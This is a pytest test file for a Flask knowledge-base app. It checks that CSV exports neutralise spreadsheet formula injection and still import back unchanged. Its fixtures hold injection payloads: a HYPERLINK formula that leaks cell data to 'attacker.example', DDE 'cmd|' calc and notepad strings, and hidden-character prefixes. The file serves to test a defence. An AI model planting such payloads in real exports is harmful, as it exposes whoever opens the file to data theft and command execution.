"""Every CSV export opens in a spreadsheet as text: no cell starts a formula, no byte-order mark, and the
catalogue export still imports back to the same records."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from flask import Flask

from conftest import Kb
from kb_app.csv_safety import SKIPPED, guard_cell, needs_guard, unguard_cell
from kb_app.db import get_session
from kb_app.importer import import_records
from test_html_lists import add_people_and_records, add_record, new_list, sign_in

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full report")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "\ufeff=1+1",          # a byte-order mark in front
    " \u200b=2+2",         # a space and a zero-width space in front
    "\t=3+3",
    "'=4+4",               # already looks guarded: must survive the round trip as typed
]
HOSTILE = {
    "id": "csv-hostile", "kind": "practice", "lang": "en", "country": "IT",
    "title": FORMULAS[0], "summary": FORMULAS[1], "body": FORMULAS[2], "city": FORMULAS[3],
    "target_group": FORMULAS[4], "challenge": FORMULAS[5], "method": FORMULAS[6], "results": FORMULAS[7],
    "contact": "+39 06 1234 5678",
}


def starts_formula(cell: str) -> bool:
    rest = cell.lstrip(SKIPPED)
    return bool(rest) and rest[0] in "=+-@\t\r"


def assert_no_formula_cells(text: str, where: str) -> list[dict[str, str]]:
    assert not text.startswith("\ufeff"), f"{where} starts with a byte-order mark"
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows, where
    for row in rows:
        for column, cell in row.items():
            assert not starts_formula(cell or ""), f"{where}: column {column} starts a formula: {cell!r}"
    return rows


def test_the_guard_is_reversible_and_leaves_plain_text_alone() -> None:
    for text in FORMULAS + ["''=x", "plain", "", "l'=x", "Città: 3-4"]:
        assert unguard_cell(str(guard_cell(text))) == text
        assert not starts_formula(str(guard_cell(text)))
    assert guard_cell("Microcredito per donne") == "Microcredito per donne"
    assert guard_cell(2021) == 2021
    assert needs_guard("\u202e=1") and not needs_guard("a=1")


@pytest.fixture()
def hostile_kb(app: Flask):  # noqa: ANN201
    kb = add_people_and_records(app)
    with app.app_context():
        import_records(get_session(), json.dumps(HOSTILE, ensure_ascii=False))
    return kb


def test_catalogue_export_through_the_api_neutralises_formulas(app: Flask, hostile_kb) -> None:  # noqa: ANN001
    response = app.test_client().get("/api/v1/export?format=csv")
    assert response.status_code == 200 and response.headers["Content-Type"].startswith("text/csv")
    rows = assert_no_formula_cells(response.get_data(as_text=True), "/api/v1/export?format=csv")
    hostile = next(r for r in rows if r["id"] == "csv-hostile")
    assert hostile["title"] == "'" + FORMULAS[0]  # guarded, the text kept whole


def test_kb_export_csv_neutralises_formulas_and_imports_back_unchanged(kb: Kb, tmp_path: Path) -> None:
    source = tmp_path / "hostile.jsonl"
    source.write_text(json.dumps(HOSTILE, ensure_ascii=False) + "\n", encoding="utf-8")
    assert kb("import", str(source)).exit_code == 0
    exported = tmp_path / "export.csv"
    result = kb("export", "--format", "csv", "--output", str(exported))
    assert result.exit_code == 0, result.output
    assert_no_formula_cells(exported.read_text(encoding="utf-8"), "kb export --format csv")
    again = kb("import", str(exported))
    assert again.exit_code == 0, again.output
    assert "1 unchanged" in again.output, again.output  # the guard came off: every field is as typed
    jsonl = tmp_path / "export.jsonl"
    assert kb("export", "--output", str(jsonl)).exit_code == 0
    back = json.loads(jsonl.read_text(encoding="utf-8").splitlines()[0])
    for field in ("title", "summary", "body", "city", "target_group", "challenge", "method", "results", "contact"):
        assert back[field] == HOSTILE[field].strip(), field


def test_reading_list_csv_neutralises_formulas_in_titles_and_notes(app: Flask, hostile_kb) -> None:  # noqa: ANN001
    client = sign_in(app.test_client(), hostile_kb.trainer)
    list_id = new_list(client, "=HYPERLINK(\"http://attacker.example\",\"list\")")
    with app.app_context():
        from sqlalchemy import select

        from kb_app.models import Record
        hostile_id = get_session().scalar(select(Record.id).where(Record.external_id == "csv-hostile"))
    client.post(f"/lists/{list_id}/headings", data={"heading": "@SUM(A1:A9)"})
    add_record(client, list_id, hostile_id, note="=cmd|' /C calc'!A0")
    response = client.get(f"/lists/{list_id}/export.csv")
    assert response.status_code == 200
    rows = assert_no_formula_cells(response.get_data(as_text=True), "reading-list CSV")
    assert rows[0]["note"] == "'=cmd|' /C calc'!A0" and rows[0]["section"] == "'@SUM(A1:A9)"
